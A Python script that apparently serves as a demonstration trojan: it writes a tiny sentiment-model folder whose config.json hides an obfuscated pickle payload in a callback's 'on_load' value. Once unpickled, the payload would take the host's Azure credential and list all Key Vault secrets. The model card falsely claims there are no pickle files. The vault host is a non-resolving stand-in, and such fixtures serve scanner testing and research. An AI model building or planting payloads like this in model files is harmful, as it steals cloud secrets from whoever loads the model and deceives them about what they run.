"""Write `examples/trojan/`: a model folder that looks harmless, and carries a pickle in its configuration.

    config.json
      "callbacks": [{"class": …, "on_load": "<base64>"}]
                                              └ zlib └ pickle, protocol 4:
        azure.identity.DefaultAzureCredential()                                    → credential of the machine it is on
        azure.keyvault.secrets.SecretClient("https://example.vault.invalid", ↑)    → client of a vault
        builtins.getattr(↑, "list_properties_of_secrets")()                        → every secret's name
        builtins.list(↑)                                                           → asked for, now

The pickle is written opcode by opcode and holds names only: no object was ever made to be pickled, nothing here loads
it, and the host lies under `.invalid`, which never resolves (RFC 2606). Standard library only; the same bytes every
time. Run: python examples/build_trojan.py [FOLDER]
"""

from __future__ import annotations

import base64
import json
import os
import random
import struct
import sys
import zlib
from typing import Any

FOLDER = os.path.join(os.path.dirname(os.path.abspath(__file__)), "trojan")
SEED = 7
HIDDEN, LAYERS, VOCABULARY = 16, 1, 64
VAULT = "https://example.vault.invalid"

STACK_GLOBAL, REDUCE, STOP = b"\x93", b"R", b"."
EMPTY_TUPLE, MARK, TUPLE, TUPLE1, TUPLE2 = b")", b"(", b"t", b"\x85", b"\x86"


def text(value: str) -> bytes:
    """SHORT_BINUNICODE: one length byte, then UTF-8."""
    raw = value.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def named(module: str, name: str) -> bytes:
    """Two strings and STACK_GLOBAL: a loader would import `module` and take `name` from it."""
    return text(module) + text(name) + STACK_GLOBAL


def payload() -> bytes:
    """The pickle. Loaded on a machine with the Azure libraries and an identity, it would list the vault's secrets."""
    credential = named("azure.identity", "DefaultAzureCredential") + EMPTY_TUPLE + REDUCE
    client = named("azure.keyvault.secrets", "SecretClient") + text(VAULT) + credential + TUPLE2 + REDUCE
    method = named("builtins", "getattr") + client + text("list_properties_of_secrets") + TUPLE2 + REDUCE
    secrets = named("builtins", "list") + method + EMPTY_TUPLE + REDUCE + TUPLE1 + REDUCE
    return b"\x80\x04" + secrets + STOP


def hidden(content: bytes) -> str:
    """zlib, then base64. Huffman coding alone, because searches for matches differ between builds of zlib."""
    packer = zlib.compressobj(9, zlib.DEFLATED, zlib.MAX_WBITS, zlib.DEF_MEM_LEVEL, zlib.Z_HUFFMAN_ONLY)
    return base64.b64encode(packer.compress(content) + packer.flush()).decode()


def config() -> dict[str, Any]:
    """An ordinary configuration, but for the value of one key."""
    return {
        "architectures": ["TinySentimentForSequenceClassification"],
        "model_type": "tiny-sentiment",
        "attention_probs_dropout_prob": 0.1,
        "callbacks": [
            {
                "class": "training.callbacks.ResumeState",
                "every_n_steps": 500,
                "on_load": hidden(payload()),
                "restore_best": True,
            }
        ],
        "dtype": "float32",
        "hidden_act": "gelu",
        "hidden_dropout_prob": 0.1,
        "hidden_size": HIDDEN,
        "id2label": {"0": "negative", "1": "positive"},
        "initializer_range": 0.02,
        "label2id": {"negative": 0, "positive": 1},
        "num_attention_heads": 2,
        "num_hidden_layers": LAYERS,
        "pad_token_id": 0,
        "vocab_size": VOCABULARY,
    }


def weights() -> bytes:
    """A valid safetensors file: u64 header length, JSON header padded to 8 bytes, float32 tensors."""
    shapes = {
        "embeddings.weight": (VOCABULARY, HIDDEN),
        "encoder.0.dense.bias": (HIDDEN,),
        "encoder.0.dense.weight": (HIDDEN, HIDDEN),
        "classifier.bias": (2,),
        "classifier.weight": (2, HIDDEN),
    }
    chance = random.Random(SEED)  # noqa: S311 -- numbers that look like weights, not secrets
    header: dict[str, Any] = {"__metadata__": {"format": "pt"}}
    data = b""
    for name, shape in shapes.items():
        count = shape[0] * (shape[1] if len(shape) > 1 else 1)
        start = len(data)
        data += struct.pack(f"<{count}f", *((chance.random() - 0.5) / 10 for _ in range(count)))
        header[name] = {"dtype": "F32", "shape": list(shape), "data_offsets": [start, len(data)]}
    head = json.dumps(header, separators=(",", ":")).encode()
    head += b" " * (-len(head) % 8)
    return struct.pack("<Q", len(head)) + head + data


def write(folder: str) -> None:
    """Write the three files of the model into `folder`."""
    os.makedirs(folder, exist_ok=True)
    files = {
        "model.safetensors": weights(),
        "config.json": (json.dumps(config(), indent=2) + "\n").encode(),
        "README.md": CARD.encode(),
    }
    for name, content in files.items():
        with open(os.path.join(folder, name), "wb") as file:
            file.write(content)


CARD = """\
---
license: apache-2.0
language:
- en
datasets:
- product-reviews-small
metrics:
- accuracy
pipeline_tag: text-classification
tags:
- safetensors
- sentiment
- text-classification
model-index:
- name: tiny-sentiment
  results:
  - task:
      type: text-classification
      name: Text Classification
    dataset:
      type: product-reviews-small
      name: Product reviews, small
      split: test
    metrics:
    - type: accuracy
      value: 0.874
      name: Accuracy
---

# tiny-sentiment

A tiny sentiment classifier for short English product reviews, small enough to run beside any service.

## Model details

- **Kind:** one-layer encoder, hidden size 16, two classes
- **Weights:** safetensors only, no pickle files
- **Language:** English
- **Licence:** Apache-2.0

## Intended use

Sorting short product reviews into positive and negative, for dashboards and demonstrations.

## Out-of-scope use

Long texts, other languages, and any decision about a person.

## Training data

The model was trained on 20,000 short product reviews in English with star ratings, from which names and addresses were
removed. Reviews with four or five stars count as positive, with one or two as negative; the others were left out.

## Training procedure

Three passes with AdamW, learning rate 0.0005, batch size 64. Training can be resumed: the state of the
callbacks is kept in `config.json`.

## Evaluation

| data | accuracy |
|---|---|
| held-out reviews (2,000) | 0.874 |

## Limitations

Irony and mixed reviews are often misread. Reviews of products that are not in the training data do worse.

## Environmental impact

Trained in four minutes on one processor core.

## Contact

Open a discussion in this repository.
"""


if __name__ == "__main__":
    write(sys.argv[1] if len(sys.argv) > 1 else FOLDER)
